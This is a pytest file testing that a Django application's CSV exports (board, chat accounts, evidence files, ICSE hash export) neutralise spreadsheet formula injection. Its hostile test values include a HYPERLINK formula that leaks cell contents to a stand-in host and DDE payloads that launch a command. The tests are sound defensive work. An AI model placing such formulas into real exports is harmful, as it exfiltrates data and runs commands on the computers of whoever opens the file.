"""Every CSV export writes through one writer (config.spreadsheets): no cell is run as a formula.

Each export path gets a hostile cell and comes out neutralised (a leading apostrophe); ordinary
values, negative numbers included, come out unchanged (the control).
"""

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse

from chats.models import ChatAccount
from config.spreadsheets import SpreadsheetDictWriter, SpreadsheetWriter, spreadsheet_cell
from evidence.models import EvidenceFile
from hashing.vics_export import icse_bytes
from tests.factories import make_hash_list

HOSTILE = {
    '=HYPERLINK("http://evil.test/?"&A1)': '\'=HYPERLINK("http://evil.test/?"&A1)',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1)": "'@SUM(1)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}
ORDINARY = {"Beach": "Beach", "SC-1/photo.jpg": "SC-1/photo.jpg", "-5": "-5", "+1.5e3": "+1.5e3", "": "", "a=b": "a=b"}


@pytest.mark.parametrize(("value", "written"), [*HOSTILE.items(), *ORDINARY.items()])
def test_a_cell_that_starts_a_formula_is_written_as_text_and_any_other_as_it_is(value, written):
    assert spreadsheet_cell(value) == written


def test_numbers_none_and_structures_keep_their_meaning():
    assert [spreadsheet_cell(value) for value in (-5, -1.5, 0, None)] == [-5, -1.5, 0, ""]
    assert spreadsheet_cell(["=1", "b"]) == '["=1", "b"]' and spreadsheet_cell({"a": 1}) == '{"a": 1}'


def test_both_writers_write_what_the_csv_module_reads_back():
    out = io.StringIO()
    SpreadsheetWriter(out).writerows([["@SUM(1)", -3, "x"]])
    writer = SpreadsheetDictWriter(out, fieldnames=["a", "b"])
    writer.writerow({"a": "\t=1", "b": "ok"})
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'@SUM(1)", "-3", "x"], ["'\t=1", "ok"]]


def test_the_board_export_neutralises_a_title_with_a_leading_tab(client, prosecutor, dossier, other_dossier):
    dossier.title = '\t=HYPERLINK("http://evil.test")'
    dossier.save()
    other_dossier.title = "Ordinary - title"  # control
    other_dossier.save()
    client.force_login(prosecutor)
    rows = list(csv.DictReader(io.StringIO(client.get(reverse("board_export")).content.decode())))
    assert [row["title"] for row in rows if row["notice_number"] == dossier.notice_number] == [
        '\'\t=HYPERLINK("http://evil.test")'
    ]


def test_the_chat_accounts_export_neutralises_a_hostile_display_name(client, owner, dossier):
    ChatAccount.objects.create(dossier=dossier, from_id="user1", display_name="@SUM(1)")
    ChatAccount.objects.create(dossier=dossier, from_id="user2", display_name="Alice")  # control
    client.force_login(owner)
    response = client.get(reverse("chat_accounts_export", args=[dossier.pk, "csv"]))
    rows = {row["from_id"]: row for row in csv.DictReader(io.StringIO(response.content.decode()))}
    assert rows["user1"]["display_name"] == "'@SUM(1)" and rows["user2"]["display_name"] == "Alice"
    assert rows["user1"]["names_seen"] == "[]"


def test_export_files_neutralises_a_hostile_file_name_in_csv_and_keeps_it_in_json(evidence_file, dossier):
    EvidenceFile.objects.create(
        exhibit=evidence_file.exhibit,
        job=evidence_file.job,
        batch=evidence_file.batch,
        path='=HYPERLINK("http://evil.test/?"&A1)',
        source_path="/nonexistent",
        triage="new_image",
    )
    out = io.StringIO()
    call_command("export_files", "--dossier", dossier.notice_number, "--format", "csv", stdout=out)
    paths = [row["path"] for row in csv.DictReader(io.StringIO(out.getvalue()))]
    assert paths == ['\'=HYPERLINK("http://evil.test/?"&A1)', "SC-1/photo.jpg"]  # the control unchanged
    out = io.StringIO()
    call_command("export_files", "--dossier", dossier.notice_number, stdout=out)
    assert '"path": "=HYPERLINK(' in out.getvalue()  # JSON is no spreadsheet: the name as it is


def test_the_icse_export_neutralises_a_hostile_series(evidence_file):
    evidence_file.md5, evidence_file.sha1, evidence_file.mime = b"\x01" * 16, b"\x02" * 20, "image/jpeg"
    evidence_file.review_series = "@SUM(1)"
    calm = EvidenceFile(md5=b"\x03" * 16, sha1=b"\x04" * 20, mime="video/mp4", review_series="Beach - 2019")
    rows = list(csv.reader(io.StringIO(icse_bytes([evidence_file, calm]).decode()), delimiter=";"))
    assert rows[1][7] == "'@SUM(1)" and rows[1][0] == "01" * 16
    assert rows[2][7] == "Beach - 2019" and rows[2][10] == "Video"  # control


def test_the_list_diff_csv_comes_out_unchanged(client, admin):
    """Hashes and the words added/removed start no formula: the writer leaves them as they are."""
    first = make_hash_list("Demo", ["ab" * 16], by=admin)
    second = make_hash_list("Demo", ["cd" * 16], by=admin)
    client.force_login(admin)
    response = client.get(reverse("version_diff_csv", args=[second.pk]))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert first.pk != second.pk
    assert rows == [["change", "algorithm", "hash"], ["added", "md5", "cd" * 16], ["removed", "md5", "ab" * 16]]
